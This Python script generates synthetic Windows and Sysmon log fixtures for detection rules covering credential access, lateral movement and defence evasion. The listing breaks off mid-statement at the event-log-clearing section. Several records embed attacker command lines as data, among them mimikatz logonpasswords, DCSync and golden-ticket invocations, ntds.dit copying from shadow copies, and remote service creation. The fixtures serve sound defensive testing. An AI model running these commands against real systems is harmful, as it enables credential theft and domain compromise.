#!/usr/bin/env python3
"""Rule fixtures (NXLog im_msvistalog JSON, one record per line) for the credential-access, lateral-movement and
defence-evasion rules of issue 5: each record is a golden-corpus raw record
(detection-kb/src/test/resources/raw/nxlog/corpus_*.json) with some fields changed; the Message text is rewritten line
by line for the changed fields, the way Windows renders them. Deterministic; run from the repository root:

    python3 sample-events/tools/gen_fixtures_credential_lateral_evasion.py
"""
import hashlib
import re
from fixture_records import base, write

_record = [5100000]


def rec(name, **fields):
    """The corpus record `name` with `fields` set; the Message line of each changed field is rewritten."""
    r = base(name)
    msg = r.get('Message')
    sysmon = r.get('SourceName') == 'Microsoft-Windows-Sysmon'
    for k, v in fields.items():
        r[k] = v
        if msg is None or k in ('EventTime', 'RecordNumber', 'Hostname') or not isinstance(v, str):
            continue
        if sysmon:
            pattern = re.compile(r'(?m)^(%s): [^\r\n]*' % re.escape(k))
            msg = pattern.sub(lambda m: m.group(1) + ': ' + v, msg)
        else:
            pattern = re.compile(r'(?m)^(\t%s:\t\t)[^\r\n]*' % re.escape(k))
            msg = pattern.sub(lambda m: m.group(1) + v, msg)
    if 'EventTime' in fields:
        r['EventReceivedTime'] = fields['EventTime']
        if sysmon and 'UtcTime' in r:
            r['UtcTime'] = fields['EventTime'] + '.' + ('%03d' % (_record[0] % 1000))
            msg = re.sub(r'(?m)^UtcTime: [^\r\n]*', 'UtcTime: ' + r['UtcTime'], msg)
    _record[0] += 7
    r['RecordNumber'] = fields.get('RecordNumber', _record[0])
    if msg is not None:
        r['Message'] = msg
    return r


def hashes(image):
    h = hashlib.sha256(image.lower().encode()).hexdigest().upper()
    return 'SHA1=%s,MD5=%s,SHA256=%s,IMPHASH=%s' % (h[:40], h[:32], h, h[32:64])


def guid(seed):
    h = hashlib.md5(seed.encode()).hexdigest()
    return '{6f3c1a2b-%s-%s-%s-%s}' % (h[0:4], h[4:8], h[8:12], h[12:24])


def sysmon1(time, image, cmd, parent_image, parent_cmd, original=None, description=None, user='CORP\\jdoe',
            session='1', host=None, pid='4412', **extra):
    name = image.rsplit('\\', 1)[-1]
    fields = dict(EventTime=time, ProcessGuid=guid(time + image), ProcessId=pid, Image=image, CommandLine=cmd,
                  ParentImage=parent_image, ParentCommandLine=parent_cmd, ParentProcessGuid=guid(parent_cmd),
                  OriginalFileName=original or name, Description=description or name, Hashes=hashes(image),
                  User=user, ParentUser=user, TerminalSessionId=session,
                  RuleName='-', CurrentDirectory='C:\\Windows\\system32\\')
    if host:
        fields['Hostname'] = host
    fields.update(extra)
    return rec('sysmon_1', **fields)


def sec4688(time, image, cmd, parent_image, user='jdoe', host=None, **extra):
    fields = dict(EventTime=time, NewProcessName=image, CommandLine=cmd, ParentProcessName=parent_image,
                  SubjectUserName=user)
    if host:
        fields['Hostname'] = host
    fields.update(extra)
    return rec('security_4688', **fields)


def sysmon(eid, time, image, host=None, **extra):
    # One process per image and host: the pipes, image loads or files of one case come from the same process.
    fields = dict(EventTime=time, ProcessGuid=guid((host or WS) + image), Image=image, RuleName='-')
    if host:
        fields['Hostname'] = host
    fields.update(extra)
    return rec('sysmon_%d' % eid, **fields)


def at(minute, second):
    return '2026-11-18 10:%02d:%02d' % (minute, second)


PS = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'
CMD = 'C:\\Windows\\System32\\cmd.exe'
EXPLORER = 'C:\\Windows\\explorer.exe'
SVCHOST = 'C:\\Windows\\System32\\svchost.exe'
RUNDLL32 = 'C:\\Windows\\System32\\rundll32.exe'
DC = 'DC01.corp.example.org'
WS = 'FIN-WS07.corp.example.org'
FS = 'FS02.corp.example.org'
USERS = ['akowalski', 'bnguyen', 'cmartin', 'dpatel', 'esmith', 'fgarcia', 'gmuller', 'hsato']

# ---------------------------------------------------------------------------------------------------------------------
# credential access

# --- file_event/credential_access_lsass_dump_file
D = 'file_event/credential_access_lsass_dump_file/'
write(D + 'match/sysmon11_taskmgr_lsass_DMP.json',
      sysmon(11, at(0, 5), 'C:\\Windows\\System32\\Taskmgr.exe',
             TargetFilename='C:\\Users\\jdoe\\AppData\\Local\\Temp\\lsass.DMP', CreationUtcTime='2026-11-18 10:00:05.112'))
write(D + 'match/sysmon11_rundll32_comsvcs_windows_temp.json',
      sysmon(11, at(0, 9), RUNDLL32, TargetFilename='C:\\Windows\\Temp\\debug_7344.dmp',
             CreationUtcTime='2026-11-18 10:00:09.310', User='NT AUTHORITY\\SYSTEM'))
write(D + 'match/sysmon11_procdump_programdata.json',
      sysmon(11, at(0, 12), 'C:\\ProgramData\\Tools\\procdump64.exe', TargetFilename='C:\\ProgramData\\Tools\\out.dmp',
             CreationUtcTime='2026-11-18 10:00:12.801'))
write(D + 'nomatch/sysmon11_werfault_lsass_crash_dump.json',
      sysmon(11, at(0, 20), 'C:\\Windows\\System32\\WerFault.exe',
             TargetFilename='C:\\ProgramData\\Microsoft\\Windows\\WER\\Temp\\lsass.exe.dmp',
             CreationUtcTime='2026-11-18 10:00:20.004', User='NT AUTHORITY\\SYSTEM'))
write(D + 'nomatch/sysmon11_teams_crash_dump_appdata.json',
      sysmon(11, at(0, 25), 'C:\\Users\\jdoe\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe',
             TargetFilename='C:\\Users\\jdoe\\AppData\\Roaming\\Microsoft\\Teams\\Crashpad\\reports\\1f2e3d4c.dmp',
             CreationUtcTime='2026-11-18 10:00:25.640'))
write(D + 'nomatch/sysmon11_procdump_w3wp_dumps_folder.json',
      sysmon(11, at(0, 30), 'C:\\Tools\\Sysinternals\\procdump64.exe', TargetFilename='D:\\Dumps\\w3wp_261118_100030.dmp',
             CreationUtcTime='2026-11-18 10:00:30.377', Hostname='WEB03.corp.example.org'))


# --- security/credential_access_password_spray_kerberos_preauth
def k4771(t, user, ip='::ffff:198.51.100.77', status='0x18', host=DC):
    return rec('security_4771', EventTime=t, Hostname=host, TargetUserName=user, IpAddress=ip, Status=status,
               TargetSid='S-1-5-21-3623811015-3361044348-30300820-%d' % (1200 + (sum(map(ord, user)) % 700)))


D = 'security/credential_access_password_spray_kerberos_preauth/'
write(D + 'match/six_accounts_in_50s.ndjson', *[k4771(at(1, 10 * i), u) for i, u in enumerate(USERS[:6])])
write(D + 'match/seven_accounts_with_retries_and_other_statuses.ndjson',
      *[k4771(at(2, 8 * i), u) for i, u in enumerate(USERS[:7])],
      k4771(at(2, 5), 'akowalski'), k4771(at(2, 6), 'svc_old', status='0x12'))
write(D + 'nomatch/five_accounts.ndjson', *[k4771(at(3, 10 * i), u) for i, u in enumerate(USERS[:5])])
write(D + 'nomatch/six_accounts_six_addresses.ndjson',
      *[k4771(at(4, 10 * i), u, ip='::ffff:192.0.2.%d' % (20 + i)) for i, u in enumerate(USERS[:6])])
write(D + 'nomatch/six_disabled_or_clock_skew.ndjson',
      *[k4771(at(5, 10 * i), u, status='0x25' if i % 2 else '0x12') for i, u in enumerate(USERS[:6])])
write(D + 'nomatch/six_accounts_over_6min.ndjson', *[k4771(at(6 + i, 0), u) for i, u in enumerate(USERS[:6])])


# --- security/credential_access_password_spray_ntlm_validation
def n4776(t, user, ws='KALI', status='0xc000006a', host=DC):
    return rec('security_4776', EventTime=t, Hostname=host, TargetUserName=user, Workstation=ws, Status=status,
               EventType='AUDIT_FAILURE' if status != '0x0' else 'AUDIT_SUCCESS',
               Keywords=-9218868437227405312 if status != '0x0' else -9214364837600034816)


D = 'security/credential_access_password_spray_ntlm_validation/'
write(D + 'match/six_wrong_passwords_one_workstation.ndjson',
      *[n4776(at(10, 7 * i), u) for i, u in enumerate(USERS[:6])])
write(D + 'match/unknown_and_wrong_users_mixed.ndjson',
      *[n4776(at(11, 9 * i), u, ws='WIN-8QJ2K1LMNOP', status='0xc0000064' if i % 2 else '0xc000006a')
        for i, u in enumerate(['administrator', 'admin', 'backup', 'sql', 'test', 'scanner', 'guest'])])
write(D + 'nomatch/six_successes_one_workstation.ndjson',
      *[n4776(at(12, 7 * i), u, ws='CITRIX01', status='0x0') for i, u in enumerate(USERS[:6])])
write(D + 'nomatch/six_failures_six_workstations.ndjson',
      *[n4776(at(13, 7 * i), u, ws='FIN-WS%02d' % (10 + i)) for i, u in enumerate(USERS[:6])])
write(D + 'nomatch/one_account_twelve_times.ndjson', *[n4776(at(14, 4 * i), 'svc_backup', ws='OPS-JUMP01')
                                                       for i in range(12)])


# --- security/credential_access_explicit_credentials_many_accounts
def e4648(t, target, subject='jdoe', process=PS, server=DC, host=WS, sid='S-1-5-21-3623811015-3361044348-30300820-1107'):
    return rec('security_4648', EventTime=t, Hostname=host, SubjectUserName=subject, SubjectUserSid=sid,
               TargetUserName=target, TargetServerName=server, TargetInfo=server, ProcessName=process)


D = 'security/credential_access_explicit_credentials_many_accounts/'
write(D + 'match/powershell_ldap_bind_six_accounts.ndjson',
      *[e4648(at(20, 3 * i), u, server='DC01.corp.example.org', process=PS) for i, u in enumerate(USERS[:6])])
write(D + 'match/eight_accounts_with_repeats.ndjson',
      *[e4648(at(21, 5 * i), u, server='localhost', process='C:\\Users\\jdoe\\AppData\\Local\\Temp\\sp.exe')
        for i, u in enumerate(USERS)],
      e4648(at(21, 2), 'akowalski', server='localhost', process='C:\\Users\\jdoe\\AppData\\Local\\Temp\\sp.exe'))
write(D + 'nomatch/machine_account_tasks_six_accounts.ndjson',
      *[e4648(at(22, 1 * i), 'svc_' + u, subject='FIN-WS07$', sid='S-1-5-18', server='localhost',
              process='C:\\Windows\\System32\\svchost.exe') for i, u in enumerate(USERS[:6])])
write(D + 'nomatch/one_account_many_servers.ndjson',
      *[e4648(at(23, 6 * i), 'adm_jdoe', server='SRV%02d.corp.example.org' % i, process=PS) for i in range(10)])
write(D + 'nomatch/five_accounts.ndjson', *[e4648(at(24, 6 * i), u) for i, u in enumerate(USERS[:5])])
write(D + 'nomatch/six_accounts_two_processes.ndjson',
      *[e4648(at(25, 6 * i), u, process=PS if i % 2 else 'C:\\Windows\\System32\\mstsc.exe')
        for i, u in enumerate(USERS[:6])])


# --- security/credential_access_asrep_roasting
def k4768(t, user, enc='0x17', preauth='0', status='0x0', ip='::ffff:192.0.2.37'):
    return rec('security_4768', EventTime=t, Hostname=DC, TargetUserName=user, TicketEncryptionType=enc,
               PreAuthType=preauth, Status=status, IpAddress=ip,
               TargetSid='S-1-5-21-3623811015-3361044348-30300820-%d' % (1200 + (sum(map(ord, user)) % 700)))


D = 'security/credential_access_asrep_roasting/'
write(D + 'match/no_preauth_rc4_tgt.json', k4768(at(30, 1), 'svc_legacyapp'))
write(D + 'match/no_preauth_rc4_second_account_from_attacker.json',
      k4768(at(30, 20), 'jenkins_build', ip='::ffff:198.51.100.77'))
write(D + 'nomatch/preauth_rc4_old_client.json', k4768(at(30, 40), 'jdoe', preauth='2'))
write(D + 'nomatch/no_preauth_aes.json', k4768(at(30, 50), 'svc_legacyapp', enc='0x12'))
write(D + 'nomatch/no_preauth_failed_unknown_user.json', k4768(at(31, 0), 'svc_nonexistent', enc='0xffffffff',
                                                               status='0x6'))

# --- process_creation/credential_access_mimikatz_command_line
D = 'process_creation/credential_access_mimikatz_command_line/'
write(D + 'match/sysmon1_renamed_mimikatz_logonpasswords.json',
      sysmon1(at(32, 0), 'C:\\Users\\jdoe\\AppData\\Local\\Temp\\m64.exe',
              'm64.exe "privilege::debug" "sekurlsa::logonpasswords" exit', CMD, 'cmd.exe',
              original='mimikatz.exe', description='mimikatz for Windows', IntegrityLevel='High'))
write(D + 'match/security4688_dcsync.json',
      sec4688(at(32, 10), 'C:\\ProgramData\\mk.exe', 'C:\\ProgramData\\mk.exe "lsadump::dcsync /domain:corp.example.org /user:krbtgt" exit',
              CMD))
write(D + 'match/sysmon1_and_4688_twin_golden_ticket.ndjson',
      sysmon1(at(32, 20), PS, 'powershell.exe -nop -c "Invoke-Mimikatz -Command \'kerberos::golden /user:fake /domain:corp.example.org /sid:S-1-5-21-3623811015-3361044348-30300820 /krbtgt:ad5c3b2e /ptt\'"',
              CMD, 'cmd.exe', original='PowerShell.EXE', description='Windows PowerShell'),
      sec4688(at(32, 20), PS, 'powershell.exe -nop -c "Invoke-Mimikatz -Command \'kerberos::golden /user:fake /domain:corp.example.org /sid:S-1-5-21-3623811015-3361044348-30300820 /krbtgt:ad5c3b2e /ptt\'"', CMD))
write(D + 'nomatch/sysmon1_powershell_static_member.json',
      sysmon1(at(32, 30), PS, 'powershell.exe -c "[System.Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls12; Get-Date"',
              CMD, 'cmd.exe', original='PowerShell.EXE', description='Windows PowerShell'))
write(D + 'nomatch/sysmon1_klist_purge.json',
      sysmon1(at(32, 40), 'C:\\Windows\\System32\\klist.exe', 'klist purge -li 0x3e7', CMD, 'cmd.exe',
              original='klist.exe'))

# --- process_creation/credential_access_ntds_dit_theft
D = 'process_creation/credential_access_ntds_dit_theft/'
NTDSUTIL = 'C:\\Windows\\System32\\ntdsutil.exe'
write(D + 'match/sysmon1_ntdsutil_ifm.json',
      sysmon1(at(33, 0), NTDSUTIL, 'ntdsutil  "ac i ntds" "ifm" "create full C:\\Windows\\Temp\\x" q q', CMD, 'cmd.exe',
              host=DC, user='CORP\\adm_jdoe', original='ntdsutil.exe', IntegrityLevel='High'))
write(D + 'match/security4688_copy_from_shadow_copy.json',
      sec4688(at(33, 10), CMD, 'cmd.exe /c copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy3\\Windows\\NTDS\\ntds.dit C:\\Windows\\Temp\\n.dit',
              EXPLORER, host=DC, user='adm_jdoe'))
write(D + 'match/sysmon1_esentutl_vss_copy.json',
      sysmon1(at(33, 20), 'C:\\Windows\\System32\\esentutl.exe', 'esentutl.exe /y /vss C:\\Windows\\NTDS\\ntds.dit /d C:\\ProgramData\\n.dit',
              CMD, 'cmd.exe', host=DC, user='CORP\\adm_jdoe', original='esentutl.exe'))
write(D + 'nomatch/sysmon1_ntdsutil_files_info.json',
      sysmon1(at(33, 30), NTDSUTIL, 'ntdsutil "activate instance ntds" "files" "info" quit quit', CMD, 'cmd.exe',
              host=DC, user='CORP\\adm_jdoe', original='ntdsutil.exe'))
write(D + 'nomatch/sysmon1_dir_ntds_dit.json',
      sysmon1(at(33, 40), CMD, 'cmd.exe /c dir C:\\Windows\\NTDS\\ntds.dit', EXPLORER, EXPLORER, host=DC,
              user='CORP\\adm_jdoe', original='Cmd.Exe'))
write(D + 'nomatch/security4688_vssadmin_list_shadows.json',
      sec4688(at(33, 50), 'C:\\Windows\\System32\\vssadmin.exe', 'vssadmin list shadows', CMD, host=DC, user='adm_jdoe'))

# --- process_creation/credential_access_credential_manager_dump
D = 'process_creation/credential_access_credential_manager_dump/'
VAULTCMD = 'C:\\Windows\\System32\\VaultCmd.exe'
CMDKEY = 'C:\\Windows\\System32\\cmdkey.exe'
write(D + 'match/sysmon1_vaultcmd_listcreds.json',
      sysmon1(at(34, 0), VAULTCMD, 'vaultcmd.exe /listcreds:"Windows Credentials" /all', CMD, 'cmd.exe /c',
              original='VAULTCMD.EXE'))
write(D + 'match/sysmon1_cmdkey_list_from_encoded_powershell.json',
      sysmon1(at(34, 10), CMDKEY, '"C:\\Windows\\system32\\cmdkey.exe" /list', PS,
              'powershell.exe -nop -w hidden -enc JABjAD0AYwBtAGQAawBlAHkAIAAvAGwAaQBzAHQA', original='cmdkey.exe'))
write(D + 'match/security4688_cmdkey_list_from_wscript.json',
      sec4688(at(34, 20), CMDKEY, 'cmdkey /list', 'C:\\Windows\\System32\\wscript.exe'))
write(D + 'nomatch/sysmon1_cmdkey_list_typed_in_cmd.json',
      sysmon1(at(34, 30), CMDKEY, 'cmdkey  /list', CMD, '"C:\\Windows\\system32\\cmd.exe" ', original='cmdkey.exe'))
write(D + 'nomatch/sysmon1_vaultcmd_list_vaults.json',
      sysmon1(at(34, 40), VAULTCMD, 'vaultcmd /list', CMD, '"C:\\Windows\\system32\\cmd.exe" ', original='VAULTCMD.EXE'))
write(D + 'nomatch/sysmon1_cmdkey_add_from_login_script.json',
      sysmon1(at(34, 50), CMDKEY, 'cmdkey /add:fs02.corp.example.org /user:CORP\\jdoe', CMD,
              'cmd.exe /c \\\\corp.example.org\\NETLOGON\\map.cmd', original='cmdkey.exe'))

# ---------------------------------------------------------------------------------------------------------------------
# lateral movement

# --- pipe_created/lateral_movement_psexec_named_pipes
D = 'pipe_created/lateral_movement_psexec_named_pipes/'
PSEXESVC = 'C:\\Windows\\PSEXESVC.exe'
write(D + 'match/sysmon17_18_psexesvc_session.ndjson',
      sysmon(17, at(40, 0), PSEXESVC, host=FS, PipeName='\\PSEXESVC', User='NT AUTHORITY\\SYSTEM'),
      sysmon(17, at(40, 1), PSEXESVC, host=FS, PipeName='\\PSEXESVC-OPS-JUMP01-4412-stdin', User='NT AUTHORITY\\SYSTEM'),
      sysmon(17, at(40, 1), PSEXESVC, host=FS, PipeName='\\PSEXESVC-OPS-JUMP01-4412-stdout', User='NT AUTHORITY\\SYSTEM'),
      sysmon(18, at(40, 2), PSEXESVC, host=FS, PipeName='\\PSEXESVC-OPS-JUMP01-4412-stderr', User='NT AUTHORITY\\SYSTEM'))
write(D + 'match/sysmon17_remcom_impacket.json',
      sysmon(17, at(40, 10), 'C:\\Windows\\RemComSvc.exe', host=FS, PipeName='\\RemCom_communicaton',
             User='NT AUTHORITY\\SYSTEM'))
write(D + 'match/sysmon17_psexec_renamed_service.json',
      sysmon(17, at(40, 20), 'C:\\Windows\\updsvc.exe', host=FS, PipeName='\\updsvc-OPS-JUMP01-7781-stdin',
             User='NT AUTHORITY\\SYSTEM'))
write(D + 'nomatch/sysmon17_powershell_host_pipe.json',
      sysmon(17, at(40, 30), PS, PipeName='\\PSHost.134081234567890123.6120.DefaultAppDomain.powershell'))
write(D + 'nomatch/sysmon18_svchost_srvsvc.json',
      sysmon(18, at(40, 40), SVCHOST, host=FS, PipeName='\\srvsvc', User='NT AUTHORITY\\SYSTEM'))
write(D + 'nomatch/sysmon17_chrome_mojo_pipe.json',
      sysmon(17, at(40, 50), 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe',
             PipeName='\\mojo.5688.7160.13981744273146281712'))

# --- process_creation/lateral_movement_remote_service_sc
D = 'process_creation/lateral_movement_remote_service_sc/'
SC = 'C:\\Windows\\System32\\sc.exe'
# The binary was copied to \\FS02\ADMIN$ first (PsExec style); its path is an ordinary one, so that only the remote
# creation is what this case shows.
write(D + 'match/sysmon1_sc_remote_create_admin_share_binary.json',
      sysmon1(at(41, 0), SC, 'sc.exe \\\\FS02 create UpdSvc binPath= "C:\\Windows\\updsvc.exe" start= demand',
              CMD, 'cmd.exe', original='sc.exe', user='CORP\\adm_jdoe'))
write(D + 'match/security4688_sc_remote_config_binpath.json',
      sec4688(at(41, 10), SC, 'sc \\\\fs02.corp.example.org config wuauserv binpath= "C:\\ProgramData\\x.exe"', CMD,
              user='adm_jdoe'))
write(D + 'nomatch/sysmon1_sc_remote_query.json',
      sysmon1(at(41, 20), SC, 'sc \\\\FS02 query type= service state= all', CMD, 'cmd.exe', original='sc.exe'))
write(D + 'nomatch/sysmon1_sc_local_create.json',
      sysmon1(at(41, 30), SC, 'sc create VeeamDeploySvc binPath= "C:\\Program Files\\Veeam\\Endpoint Backup\\Veeam.EndPoint.Service.exe" start= auto',
              'C:\\Windows\\System32\\msiexec.exe', 'C:\\Windows\\system32\\msiexec.exe /V', original='sc.exe',
              user='NT AUTHORITY\\SYSTEM', session='0'))

# --- process_creation/lateral_movement_admin_share_mapped
D = 'process_creation/lateral_movement_admin_share_mapped/'
NET = 'C:\\Windows\\System32\\net.exe'
NET1 = 'C:\\Windows\\System32\\net1.exe'
write(D + 'match/sysmon1_net_use_c_dollar_with_user.json',
      sysmon1(at(42, 0), NET, 'net  use \\\\FS02\\C$ /user:CORP\\adm_jdoe Winter2026!', CMD, 'cmd.exe',
              original='net.exe'))
NU = 'net use Z: "\\\\10.20.4.17\\ADMIN$" /persistent:no'
write(D + 'match/net_net1_and_4688_twins_admin_dollar.ndjson',
      sysmon1(at(42, 10), NET, NU, CMD, 'cmd.exe', original='net.exe'),
      sysmon1(at(42, 10), NET1, 'C:\\Windows\\system32\\net1 use Z: "\\\\10.20.4.17\\ADMIN$" /persistent:no', NET, NU,
              original='net1.exe'),
      sec4688(at(42, 10), NET, NU, CMD))
write(D + 'nomatch/sysmon1_net_use_department_share.json',
      sysmon1(at(42, 20), NET, 'net use P: \\\\fs02.corp.example.org\\Projects /persistent:yes', EXPLORER, EXPLORER,
              original='net.exe'))
write(D + 'nomatch/sysmon1_net_use_delete.json',
      sysmon1(at(42, 30), NET, 'net use Z: /delete /y', CMD, 'cmd.exe', original='net.exe'))
write(D + 'nomatch/security4688_net_use_localhost_c_dollar.json',
      sec4688(at(42, 40), NET, 'net use \\\\localhost\\C$', CMD))

# --- process_creation/lateral_movement_winrm_remote_shell
D = 'process_creation/lateral_movement_winrm_remote_shell/'
WSMPROV = 'C:\\Windows\\System32\\wsmprovhost.exe'
write(D + 'match/sysmon1_wsmprovhost_cmd.json',
      sysmon1(at(43, 0), CMD, '"C:\\Windows\\system32\\cmd.exe" /c whoami /groups', WSMPROV,
              'C:\\Windows\\system32\\wsmprovhost.exe -Embedding', original='Cmd.Exe', host=FS, user='CORP\\adm_jdoe',
              session='0'))
write(D + 'match/security4688_winrshost_certutil.json',
      sec4688(at(43, 10), 'C:\\Windows\\System32\\certutil.exe', 'certutil -hashfile C:\\Windows\\Temp\\a.bin',
              'C:\\Windows\\System32\\winrshost.exe', host=FS, user='adm_jdoe'))
write(D + 'nomatch/sysmon1_wsmprovhost_conhost.json',
      sysmon1(at(43, 20), 'C:\\Windows\\System32\\conhost.exe', '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1',
              WSMPROV, 'C:\\Windows\\system32\\wsmprovhost.exe -Embedding', original='CONHOST.EXE', host=FS,
              user='CORP\\adm_jdoe', session='0'))
write(D + 'nomatch/sysmon1_svchost_starts_wsmprovhost.json',
      sysmon1(at(43, 30), WSMPROV, 'C:\\Windows\\system32\\wsmprovhost.exe -Embedding', SVCHOST,
              'C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p', original='wsmprovhost.exe', host=FS,
              user='CORP\\adm_jdoe', session='0'))

# --- process_creation/lateral_movement_dcom_application_launch
D = 'process_creation/lateral_movement_dcom_application_launch/'
MMC = 'C:\\Windows\\System32\\mmc.exe'
EXCEL = 'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE'
DCOMLAUNCH = 'C:\\Windows\\system32\\svchost.exe -k DcomLaunch -p'
write(D + 'match/sysmon1_mmc20_embedding.json',
      sysmon1(at(44, 0), MMC, 'C:\\Windows\\system32\\mmc.exe -Embedding', SVCHOST, DCOMLAUNCH, original='MMC.EXE',
              host=FS, user='CORP\\adm_jdoe', session='0'))
write(D + 'match/security4688_mmc_embedding.json',
      sec4688(at(44, 10), MMC, 'C:\\Windows\\system32\\mmc.exe -Embedding', SVCHOST, host=FS, user='adm_jdoe'))
write(D + 'match/sysmon1_excel_automation_session0.json',
      sysmon1(at(44, 20), EXCEL, '"' + EXCEL + '" /automation -Embedding', SVCHOST, DCOMLAUNCH, original='Excel.exe',
              host=FS, user='CORP\\adm_jdoe', session='0'))
write(D + 'nomatch/sysmon1_excel_automation_user_session.json',
      sysmon1(at(44, 30), EXCEL, '"' + EXCEL + '" /automation -Embedding', SVCHOST, DCOMLAUNCH, original='Excel.exe',
              session='1'))
write(D + 'nomatch/sysmon1_explorer_factory_user_session.json',
      sysmon1(at(44, 40), EXPLORER, 'C:\\Windows\\explorer.exe /factory,{75dff2b7-6936-4c06-a8bb-676a7b00b24b} -Embedding',
              SVCHOST, DCOMLAUNCH, original='EXPLORER.EXE', session='1'))
write(D + 'nomatch/sysmon1_mmc_compmgmt_interactive.json',
      sysmon1(at(44, 50), MMC, '"C:\\Windows\\system32\\mmc.exe" "C:\\Windows\\system32\\compmgmt.msc" /s', EXPLORER,
              EXPLORER, original='MMC.EXE'))


# --- security/lateral_movement_pass_the_hash_ntlm_logon
def l4624(t, user='Administrator', lm='NTLM V2', key='0', ip='10.20.4.66', ws='WIN-8QJ2K1LMNOP', package='NTLM',
          process='NtLmSsp ', sid='S-1-5-21-3623811015-3361044348-30300820-500', logon_type='3', domain='CORP'):
    return rec('security_4624', EventTime=t, Hostname=FS, TargetUserName=user, TargetUserSid=sid, LmPackageName=lm,
               KeyLength=key, IpAddress=ip, WorkstationName=ws, AuthenticationPackageName=package,
               LogonProcessName=process, LogonType=logon_type, TargetDomainName=domain)


D = 'security/lateral_movement_pass_the_hash_ntlm_logon/'
write(D + 'match/ntlmv2_keylength0_administrator.json', l4624(at(45, 0)))
write(D + 'match/ntlmv1_keylength128.json', l4624(at(45, 10), user='adm_jdoe', lm='NTLM V1', key='128',
                                                  sid='S-1-5-21-3623811015-3361044348-30300820-1190'))
write(D + 'match/same_source_three_logons_one_alert.ndjson',
      *[l4624(at(45, 20 + i), ip='::ffff:10.20.4.66') for i in range(3)])
write(D + 'nomatch/anonymous_logon_keylength0.json',
      l4624(at(45, 30), user='ANONYMOUS LOGON', sid='S-1-5-7', domain='NT AUTHORITY', lm='-'))
write(D + 'nomatch/ntlmv2_keylength128_normal_client.json', base('security_4624'))
write(D + 'nomatch/machine_account_keylength0.json',
      l4624(at(45, 40), user='NAS01$', sid='S-1-5-21-3623811015-3361044348-30300820-2210'))
write(D + 'nomatch/kerberos_network_logon.json',
      l4624(at(45, 50), user='adm_jdoe', package='Kerberos', process='Kerberos', lm='-', key='0', ws='-',
            sid='S-1-5-21-3623811015-3361044348-30300820-1190'))

# ---------------------------------------------------------------------------------------------------------------------
# defence evasion

# --- image_load/defense_evasion_dll_side_loading_user_writable
D = 'image_load/defense_evasion_dll_side_loading_user_writable/'


def s7(t, image, loaded, signed='false', status='Unavailable', signature='-', **extra):
    return sysmon(7, t, image, ImageLoaded=loaded, Signed=signed, SignatureStatus=status, Signature=signature,
                  Hashes=hashes(loaded), **extra)


write(D + 'match/sysmon7_winword_wwlib_in_temp.json',
      s7(at(50, 0), 'C:\\Users\\jdoe\\AppData\\Local\\Temp\\7zS4F2A\\WINWORD.EXE',
         'C:\\Users\\jdoe\\AppData\\Local\\Temp\\7zS4F2A\\wwlib.dll'))
write(D + 'match/sysmon7_mpcmdrun_mpclient_programdata.json',
      s7(at(50, 10), 'C:\\ProgramData\\MsDefender\\MpCmdRun.exe', 'C:\\ProgramData\\MsDefender\\MpClient.dll',
         signed='true', status='Expired', signature='Microsoft Corporation'))
write(D + 'nomatch/sysmon7_teams_unsigned_plugin_own_folder.json',
      s7(at(50, 20), 'C:\\Users\\jdoe\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe',
         'C:\\Users\\jdoe\\AppData\\Local\\Microsoft\\Teams\\current\\ffmpeg.dll'))
write(D + 'nomatch/sysmon7_winword_program_files_unsigned_addin.json',
      s7(at(50, 30), 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE',
         'C:\\Program Files\\Microsoft Office\\root\\Office16\\ADDINS\\vendoraddin.dll'))
write(D + 'nomatch/sysmon7_calc_in_temp_loads_signed_system_dll.json',
      s7(at(50, 40), 'C:\\Users\\jdoe\\AppData\\Local\\Temp\\calc.exe', 'C:\\Windows\\System32\\WindowsCodecs.dll',
         signed='true', status='Valid', signature='Microsoft Windows'))
write(D + 'nomatch/sysmon7_calc_in_temp_loads_signed_dll_next_to_it.json',
      s7(at(50, 50), 'C:\\Users\\jdoe\\AppData\\Local\\Temp\\calc.exe', 'C:\\Users\\jdoe\\AppData\\Local\\Temp\\WindowsCodecs.dll',
         signed='true', status='Valid', signature='Microsoft Windows'))

# --- file_event/defense_evasion_dll_written_to_wbem
D = 'file_event/defense_evasion_dll_written_to_wbem/'
write(D + 'match/sysmon11_powershell_wbemcomn.json',
      sysmon(11, at(51, 0), PS, TargetFilename='C:\\Windows\\System32\\wbem\\wbemcomn.dll',
             CreationUtcTime='2026-11-18 10:51:00.120', User='NT AUTHORITY\\SYSTEM'))
write(D + 'match/sysmon11_cmd_copy_syswow64_wbem.json',
      sysmon(11, at(51, 10), CMD, TargetFilename='C:\\Windows\\SysWOW64\\wbem\\loadperf.dll',
             CreationUtcTime='2026-11-18 10:51:10.450', User='NT AUTHORITY\\SYSTEM'))
write(D + 'nomatch/sysmon11_tiworker_servicing_update.json',
      sysmon(11, at(51, 20),
             'C:\\Windows\\WinSxS\\amd64_microsoft-windows-servicingstack_31bf3856ad364e35_10.0.19041.4590_none_7e1d9b2a3c6f0d11\\TiWorker.exe',
             TargetFilename='C:\\Windows\\System32\\wbem\\fastprox.dll', CreationUtcTime='2026-11-18 10:51:20.010',
             User='NT AUTHORITY\\SYSTEM'))
write(D + 'nomatch/sysmon11_wmiprvse_log_file.json',
      sysmon(11, at(51, 30), 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe',
             TargetFilename='C:\\Windows\\System32\\wbem\\Logs\\wmiprov.log', CreationUtcTime='2026-11-18 10:51:30.900',
             User='NT AUTHORITY\\SYSTEM'))
write(D + 'nomatch/sysmon11_msiexec_vendor_provider.json',
      sysmon(11, at(51, 40), 'C:\\Windows\\System32\\msiexec.exe', TargetFilename='C:\\Windows\\System32\\wbem\\HPWmiProv.dll',
             CreationUtcTime='2026-11-18 10:51:40.300', User='NT AUTHORITY\\SYSTEM'))

# --- process_creation/defense_evasion_event_log_clearing_command
D = 'process_creation/defense_evasion_event_log_clearing_command/'
WEVTUTIL = 'C:\\Windows\\System32\\wevtutil.exe'
write(D + 'match/sysmon1_wevtutil_cl_security.json',
